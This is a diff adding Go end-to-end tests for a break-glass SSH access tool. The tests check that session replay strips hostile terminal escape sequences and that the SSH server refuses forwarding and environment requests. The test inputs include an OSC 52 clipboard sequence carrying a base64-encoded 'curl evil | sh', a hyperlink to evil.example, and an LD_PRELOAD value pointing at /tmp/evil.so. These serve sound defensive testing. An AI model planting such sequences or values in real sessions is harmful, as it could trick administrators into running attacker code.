@@ -1,0 +1,192 @@
+package e2e
+
+import (
+	"encoding/json"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+
+	"moat/internal/api"
+)
+
+// storedSessions waits until every session of grant id has its recording
+// on the control plane, and returns them.
+func storedSessions(t *testing.T, env cmdEnv, id string, want int) []api.AccessSession {
+	t.Helper()
+	var out []api.AccessSession
+	waitUntil(t, time.Minute, "the recordings to reach the control plane", func() bool {
+		var gs []api.GrantListing
+		if err := json.Unmarshal([]byte(must(t, env, "access", "list", "--all", "--output", "json")), &gs); err != nil {
+			t.Fatal(err)
+		}
+		for _, g := range gs {
+			if g.ID != id || len(g.Sessions) != want {
+				continue
+			}
+			for _, s := range g.Sessions {
+				if !s.Stored {
+					return false
+				}
+			}
+			out = g.Sessions
+			return true
+		}
+		return false
+	})
+	return out
+}
+
+// TestBreakGlassReplayHostileOutput: whatever the node printed during a
+// session (here a program writing a clipboard command, a hyperlink, a
+// title report request and a device status request, as a log line an
+// attacker planted would), replaying the session draws its text and
+// colours and sends none of those sequences to the administrator's
+// terminal, and says it left some out.
+func TestBreakGlassReplayHostileOutput(t *testing.T) {
+	b := startBreakGlass(t)
+	id := b.request(t, "--node", "web-1", "--shell", "--reason", "INC-45", "--for", "1h")
+	hostile := `printf 'safe-\033[1;31mred\033[0m\n\033]52;c;Y3VybCBldmlsIHwgc2gK\007\033]8;;http://evil.example/\033\\link\033]8;;\033\\\033[21t\033[6n\033P$q"p\033\\end\n'`
+	if r := moatRun(t, b.alice.env, "", "ssh", "web-1", hostile); r.code != 0 || !strings.Contains(r.out, "\x1b]52;") {
+		t.Fatalf("ssh: exit %d: %q %q", r.code, r.out, r.errOut)
+	}
+	sessions := storedSessions(t, b.alice.env, id, 1)
+	r := moatRun(t, b.alice.env, "", "access", "replay", "--instant", sessions[0].ID)
+	if r.code != 0 {
+		t.Fatalf("replay: exit %d: %s", r.code, r.errOut)
+	}
+	if want := "safe-\x1b[1;31mred\x1b[0m\nlinkend\n"; r.out != want {
+		t.Fatalf("replay wrote %q to the terminal, want %q", r.out, want)
+	}
+	if !strings.Contains(r.errOut, "6 terminal control sequence(s) that act on a terminal") {
+		t.Fatalf("replay warned %q", r.errOut)
+	}
+	t.Log("the export keeps the recording as it is, for asciinema and for evidence")
+	cast := filepath.Join(b.dir, "hostile.cast")
+	must(t, b.alice.env, "access", "export", "-o", cast, sessions[0].ID)
+	if raw, err := os.ReadFile(cast); err != nil || !strings.Contains(string(raw), `\u001b]52;c;`) {
+		t.Fatalf("export: %v: %.200s", err, raw)
+	}
+}
+
+// proxiedSSH opens an SSH client connection to node through "moat access
+// proxy" with the shell grant's credentials that ssh-cert wrote, as ssh(1)
+// would, but with a client that asks for whatever an attacker might.
+func proxiedSSH(t *testing.T, env cmdEnv, node string) *ssh.Client {
+	t.Helper()
+	must(t, env, "access", "ssh-cert", node)
+	dir := filepath.Join(env["MOAT_ADMIN_DIR"], "access", node)
+	keyPEM, err := os.ReadFile(filepath.Join(dir, "id_ed25519"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	key, err := ssh.ParsePrivateKey(keyPEM)
+	if err != nil {
+		t.Fatal(err)
+	}
+	certText, err := os.ReadFile(filepath.Join(dir, "id_ed25519-cert.pub"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	pub, _, _, _, err := ssh.ParseAuthorizedKey(certText)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer, err := ssh.NewCertSigner(pub.(*ssh.Certificate), key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	known, err := os.ReadFile(filepath.Join(dir, "known_hosts"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, _, hostCA, _, _, err := ssh.ParseKnownHosts(known)
+	if err != nil {
+		t.Fatal(err)
+	}
+	checker := &ssh.CertChecker{IsHostAuthority: func(k ssh.PublicKey, _ string) bool {
+		return string(k.Marshal()) == string(hostCA.Marshal())
+	}}
+	cmd := exec.Command(moatBinary(t), "access", "proxy", node)
+	cmd.Env = env.list()
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	stdout, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var errb lockedBuffer
+	cmd.Stderr = &errb
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { stdin.Close(); cmd.Process.Kill(); cmd.Wait() })
+	conn, far := net.Pipe()
+	go func() { io.Copy(stdin, far); stdin.Close() }()
+	go func() { io.Copy(far, stdout); far.Close() }()
+	sc, chans, reqs, err := ssh.NewClientConn(conn, node+":22", &ssh.ClientConfig{
+		User: "admin", Auth: []ssh.AuthMethod{ssh.PublicKeys(signer)},
+		HostKeyCallback: checker.CheckHostKey, Timeout: time.Minute,
+	})
+	if err != nil {
+		t.Fatalf("ssh through moat access proxy: %v (%s)", err, errb.String())
+	}
+	c := ssh.NewClient(sc, chans, reqs)
+	t.Cleanup(func() { c.Close() })
+	return c
+}
+
+// TestBreakGlassSSHRefusesForwarding: a shell grant carries a shell and
+// its commands, nothing else: the node's SSH server refuses port
+// forwarding either way, agent and X11 forwarding, environment variables
+// and subsystems other than sftp, while the session itself works.
+func TestBreakGlassSSHRefusesForwarding(t *testing.T) {
+	b := startBreakGlass(t)
+	b.request(t, "--node", "web-1", "--shell", "--reason", "INC-46", "--for", "1h")
+	c := proxiedSSH(t, b.alice.env, "web-1")
+
+	if _, err := c.Dial("tcp", b.echoAddr); err == nil || !strings.Contains(err.Error(), "prohibited") {
+		t.Fatalf("a local forward (direct-tcpip) to %s: %v", b.echoAddr, err)
+	}
+	if ln, err := c.Listen("tcp", "127.0.0.1:0"); err == nil {
+		ln.Close()
+		t.Fatal("a remote forward (tcpip-forward) was accepted")
+	}
+	if ok, _, err := c.SendRequest("streamlocal-forward@openssh.com", true, ssh.Marshal(struct{ Path string }{"/tmp/moat-fwd"})); ok || err != nil {
+		t.Fatalf("a remote socket forward: accepted %v, %v", ok, err)
+	}
+
+	s, err := c.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	if err := s.Setenv("LD_PRELOAD", "/tmp/evil.so"); err == nil {
+		t.Fatal("an env request was accepted")
+	}
+	for _, req := range []string{"auth-agent-req@openssh.com", "x11-req"} {
+		if ok, err := s.SendRequest(req, true, nil); ok || err != nil {
+			t.Fatalf("%s: accepted %v, %v", req, ok, err)
+		}
+	}
+	if err := s.RequestSubsystem("netconf"); err == nil {
+		t.Fatal("a subsystem other than sftp was accepted")
+	}
+	s2, err := c.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s2.Close()
+	out, err := s2.Output(`echo "ld=[$LD_PRELOAD] sock=[$SSH_AUTH_SOCK]"`)
+	if err != nil || string(out) != "ld=[] sock=[]\n" {
+		t.Fatalf("a command after the refusals: %q, %v", out, err)
+	}
+}
